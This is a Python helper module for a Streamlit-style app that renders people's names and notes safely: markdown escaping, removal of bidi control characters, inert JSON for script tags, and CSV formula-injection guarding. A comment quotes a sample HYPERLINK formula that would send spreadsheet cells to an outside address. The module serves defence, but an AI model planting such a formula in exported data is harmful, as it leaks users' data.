"""Showing people's words safely: names and notes render as plain text."""

from __future__ import annotations

import json
import math
import re
from collections.abc import Sequence
from decimal import ROUND_HALF_UP, Decimal, InvalidOperation

# Every ASCII punctuation mark that markdown (or Streamlit's :color[...] and
# :emoji: directives) could read as syntax gets a backslash.
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:&\"'=^])")


# Streamlit's renderer turns a free-standing "--", "->", "<-", "<->", ">=", "<=" or
# "~=" into a symbol (—, →, ...) after reading escapes, so escaping cannot keep it.
# An invisible word joiner inside the token does.
_TYPOGRAPHY = re.compile(r"(?<!\S)(<->|->|<-|--|>=|<=|~=)(?!\S)")
WORD_JOINER = "\u2060"


# Unicode's bidirectional embeddings, overrides and isolates: a person's words never need them (Hebrew or Arabic
# in a name is laid out right without them), and one left open in a name turned the app's own sentence after it
# backwards ("...yehT .6202 lirpA dna yraunaJ rof ni dekcehc sah").
_BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
BIDI_CONTROLS_SQL = r"[\x{202A}-\x{202E}\x{2066}-\x{2069}]"  # the same characters, for DuckDB's regexp_*


# A spreadsheet opening a CSV file runs a cell that begins with one of these as a formula: a name or a note written
# as =HYPERLINK("https://...?"&A2, "open") would offer to send the file's other cells away. In a CSV file such a
# text begins with an apostrophe, so that it is shown as text (OWASP's advice for CSV files). The pattern reads
# the same in Python and in DuckDB's regexp_matches.
FORMULA_START = r"^[=+\-@\t\r]"
_FORMULA_START = re.compile(FORMULA_START)


def as_cell(text: str) -> str:
    """`text` for a CSV cell: as it is, or begun with an apostrophe when a spreadsheet would run it."""
    return "'" + text if _FORMULA_START.match(text) else text


def no_bidi_controls(text: str) -> str:
    """`text` without the characters that would change the direction of the text around it."""
    return _BIDI_CONTROLS.sub("", str(text))


def md_escape(text: str) -> str:
    """Escape `text` so a markdown renderer shows it literally, on one line."""
    flat = " ".join(no_bidi_controls(text).split())
    flat = _TYPOGRAPHY.sub(lambda m: m[0][0] + WORD_JOINER + m[0][1:], flat)
    return _MD_SPECIAL.sub(r"\\\1", flat)


# words Markdown shows as they are: a letter first, then letters, digits, spaces and a little punctuation (no
# `_`, `*`, brackets, `:`, `#`, backslash, a leading digit or dash: emphasis, links, emoji codes, lists)
_PLAIN_WORDS = re.compile(r"[^\W\d_](?:[^\W_]|[ ,'\u2019?-])*")


def md_label(text: str) -> str:
    """`text` for a Markdown label that is also a value the page keeps in its address (a part's name): as it is
    when Markdown would show it so ("Built-up feelings"), else escaped (`md_escape`), where the address would
    otherwise carry escapes ("Built%5C-up+feelings")."""
    return text if _PLAIN_WORDS.fullmatch(text) and text == " ".join(text.split()) else md_escape(text)


def inert_json(spec: str) -> str:
    """JSON the HTML parser reads as plain text inside a script element: no `<`, `>` or `&` (outside strings
    JSON has none, and inside them `\\u003c` and the like mean the same), so no name or note can end the
    element or open a comment in it."""
    return spec.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def script_literal(value: object) -> str:
    """A value as a JavaScript literal (JSON) that is inert inside a script element."""
    return inert_json(json.dumps(value))


def possessive(name: str) -> str:
    """A name's possessive, one way everywhere: "Elias's", "Ann's" (it was "Elias'" in a sentence beside a chart
    titled "Elias's")."""
    return f"{name}'s"


def listed(words: Sequence[str]) -> str:
    """Words in a sentence, one way everywhere: "A", "A and B", "A, B and C" ("" for none)."""
    if len(words) <= 1:
        return "".join(words)
    return ", ".join(words[:-1]) + " and " + words[-1]


def counted(n: int, one: str, many: str | None = None) -> str:
    """A count in words, one way everywhere: "1 file", "2 files" ("many" for an irregular plural)."""
    return f"{n} {one if n == 1 else many or one + 's'}"


def rounded(fmt: str, value: float) -> str:
    """`fmt.format(value)` for a `{:.Nf}` or `{:.N%}` format (and words after it), with a half rounded up, as
    people round and as the tables beside the sentences show it: 3.25 reads "3.3" (Python's own format rounds a
    half to even: "3.2", while 3.75 gave "3.8"; -0.25 reads "-0.3"). Any other format, or a value that is not a
    finite number, as Python gives it."""
    found = re.fullmatch(r"\{:\.(\d+)([f%])\}([^{}]*)", fmt)
    if found is None or not math.isfinite(value):
        return fmt.format(value)
    places, percent = int(found[1]), found[2] == "%"
    try:
        # the shortest decimal that reads back as the same float (3.25 is 3.25), of a numpy number too
        exact = Decimal(repr(float(value))) * (100 if percent else 1)
        shown = exact.quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP)
    except InvalidOperation:  # too many digits for the decimal context (1e30)
        return fmt.format(value)
    return f"{shown}{'%' if percent else ''}{found[3]}"
